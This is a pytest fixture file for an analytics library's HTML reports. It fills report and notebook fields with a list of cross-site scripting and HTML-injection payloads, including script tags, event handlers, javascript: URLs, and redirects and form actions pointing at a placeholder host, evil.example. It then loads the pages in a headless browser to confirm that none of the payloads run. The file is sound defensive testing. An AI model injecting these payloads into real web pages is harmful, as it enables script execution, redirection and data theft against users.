"""A real browser, and reports of a made-up world whose captions are attacks."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import attrs
import pytest

from creatoraudit import CreatorAudit
from creatoraudit import Page as ListPage
from creatoraudit.report import Digest, Provenance, render_html
from support.chromium import chromium
from support.reports import HOSTILE, MADE_AT

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from creatoraudit_sandbox import Sandbox

ARTIFACTS = Path(__file__).parent / "artifacts"
CANARY = "window.canary=1"
HUGE = 2**63 - 1
_LAST: Mapping[str, Any] = {
    "next_cursor": None,
    "has_next": False,
    "total_count": None,
    "filters": {},
    "request_id": None,
}
ATTACKS = (
    f"<script>{CANARY}</script>",
    f"</title></style></svg></table><script>{CANARY};alert(1)</script>",
    f'"><img src=x onerror="{CANARY}">',
    f"' onmouseover='{CANARY}' autofocus onfocus='{CANARY}' x='",
    f"<svg/onload={CANARY}>",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    f"<details open ontoggle={CANARY}>",
    '<iframe srcdoc="<script>parent.canary=1</script>"></iframe>',
    f'<a href="javascript:{CANARY}">click</a>',
    f"javascript:{CANARY}//",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><link rel=stylesheet href=/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/)}</style>",
    "</style><style>body{display:none}</style>",
    "<form action=https://evil.example/><input autofocus name=q><button>go",
    f"<math><mtext></mtext><script>{CANARY}</script></math>",
    f"<![CDATA[<script>{CANARY}</script>]]>",
    f"<!--><script>{CANARY}</script>-->",
    "\u202e" + "reversed" * 20 + "\u2066\u2067",
    "x" * 100_000,
    "unbroken" + "\u00a0" * 50_000,
    "w" + "\u0301" * 100_000,
    "مرحبا " * 20_000,
    "日本語" * 40_000,
    *HOSTILE,
)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    with ExitStack() as stack:
        try:
            running = stack.enter_context(chromium())
        except LookupError as missing:
            pytest.exit(str(missing), returncode=2)
        yield running


@pytest.fixture(scope="session")
def reports(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Path]:
    """Pages on disk, by name; the one with attacks has them in every member that is shown."""
    with CreatorAudit(sandbox.api_key, base_url=sandbox.base_url) as ca:
        plain = ca.breakouts()
        many = ca.breakouts(top=1200, window=30, by="outlier", source="both")
        week = Digest("7d", ca.overview("7d"), ca.creators.top("7d", limit=5))
    assert week.overview.current
    assert week.overview.changes
    huge = attrs.evolve(week.overview.current, total_views=HUGE, engagement_rate=1e18)
    changes = attrs.evolve(week.overview.changes, total_views_pct=1e18)
    attacked = attrs.evolve(
        many,
        posts=tuple(
            attrs.evolve(post, video=attrs.evolve(post.video, **members))
            for post, members in zip(many, _attacks(), strict=False)
        ),
    )
    creators = [
        attrs.evolve(one, additional_properties={**one.additional_properties, "name": attack})
        for attack in ATTACKS
        for one in week.creators[:1]
    ]
    results = {
        "breakouts": plain,
        "many": many,
        "attacked": attacked,
        "huge": attrs.evolve(
            plain, posts=tuple(attrs.evolve(post, delta=-HUGE, growth=1e18) for post in plain)
        ),
        "huge-digest": attrs.evolve(
            week,
            overview=attrs.evolve(week.overview, current=huge, previous=huge, changes=changes),
        ),
        "empty": attrs.evolve(plain, posts=(), values=(), considered=0),
        "digest": week,
        "attacked-digest": attrs.evolve(week, creators=creators),
    }
    folder = tmp_path_factory.mktemp("reports")
    for name, result in results.items():
        whose = ATTACKS[2] if name.startswith("attacked") else "Acme"
        about = Provenance(whose, whose * 3, whose, made_up=name.endswith("digest"))
        page = render_html(result, made_at=MADE_AT, provenance=about)
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in results}


@pytest.fixture(scope="session")
def notebook(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page with what a notebook shows of results whose every text is an attack."""
    with CreatorAudit(sandbox.api_key, base_url=sandbox.base_url) as ca:
        found = ca.breakouts(top=len(ATTACKS))
        week = Digest("7d", ca.overview("7d"), ca.creators.top("7d", limit=5))
        posts = next(ca.videos.list(limit=len(ATTACKS)).pages())
    shown = ["<h1>Notebook</h1>"]
    for post, attack in zip(found, ATTACKS, strict=False):
        video = attrs.evolve(
            post.video,
            description=attack,
            account_username=attack,
            metadata={attack: attack},
            additional_properties={attack: attack},
        )
        attacked = attrs.evolve(found, posts=(attrs.evolve(post, video=video),))
        creator = type(week.creators[0]).from_dict({"id": attack, "name": attack, attack: attack})
        digest = attrs.evolve(week, creators=[creator])
        page = ListPage([video], **_LAST)
        shown += [one._repr_html_() for one in (video, attacked, attacked[0], digest, page)]
    shown.append(posts._repr_html_())
    path = tmp_path_factory.mktemp("notebook") / "notebook.html"
    path.write_text("<meta charset=utf-8>" + "\n".join(shown), encoding="utf-8")
    return path


def _attacks() -> Iterator[Mapping[str, str]]:
    for attack in ATTACKS:
        for platform in ("instagram", "tiktok", attack):
            yield {
                "platform": platform,
                "description": attack,
                "account_username": attack,
                "shortcode": attack,
                "external_id": attack,
            }


@dataclass
class Watched:
    """A page, with everything it did that a report must not do."""

    page: Page
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)

    @property
    def ran(self) -> object:
        """Whether an injected script ran."""
        return self.page.evaluate("() => window.canary")

    @property
    def violations(self) -> object:
        """Violations that the policy of the page stopped."""
        return self.page.evaluate("() => window.violations")


Open = Callable[..., Watched]


@pytest.fixture
def watch(browser: Browser) -> Iterator[Open]:
    """Opens a file, by default on a large bright screen."""
    with ExitStack() as contexts:

        def start(path: Path, width: int = 1280, **options: Any) -> Watched:
            context = browser.new_context(viewport={"width": width, "height": 900}, **options)
            contexts.callback(context.close)
            context.add_init_script(
                "window.violations = [];"
                "addEventListener('securitypolicyviolation',"
                " e => window.violations.push(e.violatedDirective))"
            )
            page = context.new_page()
            watched = Watched(page)
            page.on("request", lambda request: watched.requests.append(request.url))
            page.on("console", lambda message: watched.console.append(message.text))

            def note(dialog: Any) -> None:
                watched.dialogs.append(dialog.message)
                dialog.dismiss()

            page.on("dialog", note)
            page.goto(path.as_uri(), wait_until="load")
            return watched

        yield start


@pytest.fixture(scope="session")
def artifacts() -> Path:
    """The folder for screenshots."""
    ARTIFACTS.mkdir(exist_ok=True)
    return ARTIFACTS
